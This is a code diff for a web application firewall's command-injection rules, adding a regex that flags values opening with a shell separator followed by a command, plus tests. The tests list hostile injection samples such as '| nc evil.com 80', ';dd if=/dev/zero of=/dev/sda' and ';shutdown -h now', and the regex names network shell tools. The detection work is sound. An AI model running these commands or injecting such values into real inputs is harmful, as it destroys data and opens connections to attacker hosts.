@@ -102,6 +102,30 @@ pub(super) fn rules() -> Vec<RuleDef> {
             "Value is a system command line",
         ),
         rule(
+            932113,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            CMD,
+            // The value opens with a shell separator or redirect and is then one
+            // short command line: `;echo vulnerable`, `| nc evil.com 80`,
+            // `& start calc`, `;kill -9 1`, `<sleep 5;`. Text does not begin with
+            // `;`, `|` or `&` and a command; a markdown table row (`| echo | … |`)
+            // has more pipes than a command line's words allow. Commands that are
+            // also words (`start`, `kill`, `find`) need an option, a path, a number
+            // or a program after them.
+            Regex(concat!(
+                r"^\s*(?:[;|&]{1,2}|<)\s*(?:sudo\s+)?(?:[\w./-]*/)?(?:",
+                r"(?:echo|printf|expr|dig|nc|ncat|netcat|nslookup|killall|pkill|reboot|shutdown|halt|poweroff|passwd|history|getfacl|setfacl|eval|exec|osascript|xdg-open|calc|notepad|mspaint|xcalc|dd|chmod|chattr|rm|ping|sleep|bash|sh|zsh|ksh|python[\d.]*|perl|ruby|php|node|lua|curl|wget|telnet|ssh|scp|ftp|tftp|base64|sed|awk|grep|egrep|tac|xargs|od|strings|lsof|nmap|cmd|powershell|pwsh|uname|whoami|id|ls|cat|pwd|env|ps|hostname|uptime|ifconfig|ipconfig|netstat|systeminfo|tasklist|ver)(?:\.exe)?",
+                r"(?:\s+[^\s;|&<>`]+){0,6}",
+                r"|(?:start|open|kill|init|find|type|head|tail|touch|cp|mv|copy|del|mkdir|net|reg|sc|set|timeout)",
+                r"(?:\s+[^\s;|&<>`]+){0,5}\s+(?:-{1,2}[a-z0-9]|/|[a-z]:\\|~|\d|(?:calc|notepad|mspaint|cmd|powershell)\b)[^\s;|&<>`]*(?:\s+[^\s;|&<>`]+){0,5}",
+                r")\s*(?:[;&#]\s*)?$"
+            )),
+            "Value is a command line after a shell separator",
+        ),
+        rule(
             932111,
             Rce,
             2,
@@ -123,10 +147,11 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Critical,
             ATTACK,
             DEC,
-            // A variable assigned and then run as the command (`CMD=$'id';$CMD`), or
-            // ANSI-C quoting next to a separator: shell, never prose.
+            // A variable assigned and then run as the command (`CMD=$'id';$CMD`),
+            // ANSI-C quoting next to a separator, or a command glued from variables
+            // after a separator (`;a=i;b=d;$a$b`): shell, never prose.
             Regex(
-                r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}"##,
+                r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}|[;|&]\s*(?:\$\{?[a-z_]\w*\}?){2,}\s*(?:$|[;|&#])"##,
             ),
             "Shell variable or ANSI-C quoted command",
         ),
@@ -521,6 +546,58 @@ mod tests {
         assert!(fires(932120, "; Start-Sleep -s 5"));
         assert!(fires(932120, "powershell start-sleep 10"));
         assert!(!fires(932120, "start sleeping at 10"));
+    }
+
+    #[test]
+    fn a_command_line_after_a_leading_separator_fires_but_text_and_tables_do_not() {
+        for a in [
+            ";echo vulnerable",
+            "| echo injected",
+            "& echo test",
+            "; dig evil.com",
+            "| nc evil.com 80",
+            ";kill -9 1",
+            ";killall -9 httpd",
+            ";eval 'id'",
+            ";history",
+            ";getfacl /",
+            "& start calc",
+            "& calc.exe",
+            "| notepad",
+            ";xdg-open http://evil.com",
+            ";open -a Calculator",
+            ";osascript -e 'do shell script \"id\"'",
+            ";shutdown -h now",
+            ";reboot",
+            ";init 0",
+            ";passwd root",
+            ";dd if=/dev/zero of=/dev/sda",
+            "<sleep 5;",
+        ] {
+            assert!(fires(932113, a), "missed {a}");
+        }
+        for b in [
+            "| echo | prints its arguments |",
+            "& more info",
+            "; start here",
+            "& open source projects",
+            "&amp; echo",
+            "echo chamber",
+            "tom & jerry",
+            "; kill the lights",
+            "<echo>",
+            "| find a place | near you |",
+        ] {
+            assert!(!fires(932113, b), "flagged {b}");
+        }
+    }
+
+    #[test]
+    fn a_command_glued_from_variables_fires() {
+        assert!(fires(932108, ";a=i;b=d;$a$b"));
+        assert!(fires(932108, "|${x}${y}"));
+        assert!(!fires(932108, "costs $5 or $10"));
+        assert!(!fires(932108, "$a$b"));
     }
 
     #[test]
